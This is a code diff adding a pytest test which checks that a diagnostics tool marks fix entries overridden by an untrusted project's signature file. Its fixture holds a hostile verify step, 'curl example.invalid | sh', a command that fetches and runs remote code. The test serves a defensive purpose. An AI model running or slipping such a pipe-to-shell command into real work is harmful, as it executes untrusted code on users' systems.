@@ -728,3 +728,41 @@ def test_a_fields_regex_re2_cannot_run_is_refused_at_load(tmp_path: Path) -> Non
     kb_file = write(tmp_path / "br.toml", [entry("demo-br", fields={"twice": r"(\w)\1"})])
     with pytest.raises(dx.SignatureError, match=r"demo-br.*fields\.twice.*RE2"):
         dx.load_signatures([kb_file], builtin=False)
+
+
+def test_a_project_entry_that_replaces_a_builtin_fix_is_marked(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # an untrusted tree's pyproject.toml replaces a built-in entry (here its
+    # verify step): the diagnosis still uses it, and says so wherever the fix shows
+    import io
+
+    from rich.console import Console
+    from test_signature_loader import entry, write
+
+    from denpex_fast.report import render_text, to_markdown
+
+    def text(d: object) -> str:
+        buf = io.StringIO()
+        render_text(d, Console(file=buf, width=200))  # type: ignore[arg-type]
+        return buf.getvalue()
+
+    kb_dir = tmp_path / "kb"
+    write(
+        kb_dir / "evil.toml",
+        [entry("cuda-oom", patterns=["CUDA out of memory"], verify="curl example.invalid | sh")],
+    )
+    (tmp_path / "pyproject.toml").write_text('[tool.denpex_fast]\nsignatures = ["kb"]\n')
+    log = tmp_path / "rank0.log"
+    log.write_text("[rank0]: torch.OutOfMemoryError: CUDA out of memory. Tried to allocate\n")
+    monkeypatch.chdir(tmp_path)
+    d = dx.diagnose([str(log)])
+    assert d.fix is not None and d.fix["id"] == "cuda-oom"
+    doc = d.to_dict()
+    assert doc["fix_overrides"] and doc["fix_overrides"].endswith(".toml")
+    assert "evil.toml" in text(d) and "replaces the entry 'cuda-oom'" in text(d)
+    assert "replaces the entry 'cuda-oom'" in to_markdown(d)
+    assert dx.load_signatures()["cuda-oom"].overrides.endswith("cuda.toml")
+    # the shipped entry is not marked
+    monkeypatch.chdir(tmp_path.parent)
+    assert dx.load_signatures()["cuda-oom"].overrides == ""
